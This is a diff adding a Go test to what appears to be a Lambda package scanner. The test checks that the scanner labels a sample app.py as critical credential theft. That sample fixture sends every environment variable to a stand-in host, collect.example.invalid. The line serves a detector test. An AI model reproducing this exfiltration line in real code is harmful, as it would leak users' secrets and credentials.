@@ -159,3 +159,39 @@ func TestUnused_in_a_real_layer(t *testing.T) {
 		t.Errorf("unknown %q, doubts %q (-want +got):\n%s", u.Unknown, u.Doubts, d)
 	}
 }
+
+// The function's own package is judged by what looks at files alone, last, and
+// its findings say so; what is about the place in /opt is not asked of it.
+func TestFunction_package_is_judged(t *testing.T) {
+	zip := layers.Zip(
+		layers.File{Name: "app.py", Body: "import json, os, urllib.request\nurllib.request.urlopen('https://collect.example.invalid', data=json.dumps(dict(os.environ)).encode())\ndef handler(event, context):\n    return 1\n"},
+		layers.File{Name: "extensions/x", Body: "#!/bin/sh\ntrue\n", Mode: 0o755},
+	)
+	layer := layers.Zip(layers.File{Name: "python/acme.py", Body: "x = 1\n"})
+	read := func(name string, zip []byte) *content.Layer {
+		return content.Read(name, bytes.NewReader(zip), int64(len(zip)), content.Options{Imports: true})
+	}
+	s := &content.Scan{Layers: []*content.Layer{read("layer.zip", layer)}, Function: &content.Function{Code: read("app.zip", zip), Runtime: "python3.12", Handler: "app.handler"}}
+	var got []string
+	asked := 0
+	for _, f := range content.Judge(analyzers.All, s) {
+		if f.Resource != "app.zip" {
+			continue
+		}
+		asked++
+		if !strings.HasPrefix(f.Detail, "in the function's own package: ") {
+			t.Errorf("%s: %q does not say where it is", f.Check, f.Detail)
+		}
+		if f.Outcome == lamina.Fail {
+			got = append(got, string(f.Severity)+" "+f.Check+" "+f.File)
+		}
+	}
+	if d := gocmp.Diff([]string{"critical credential-theft app.py"}, got); d != "" || asked < 15 {
+		t.Errorf("%d findings and passes (-want +got):\n%s", asked, d)
+	}
+	s.Function.Code = read("app.zip", []byte("no zip"))
+	findings := content.Judge(analyzers.All, s)
+	if last := findings[len(findings)-1]; last.Outcome != lamina.Unknown || last.Check != content.UnreadableLayer || last.Resource != "app.zip" {
+		t.Errorf("a package that cannot be opened: %+v", last)
+	}
+}
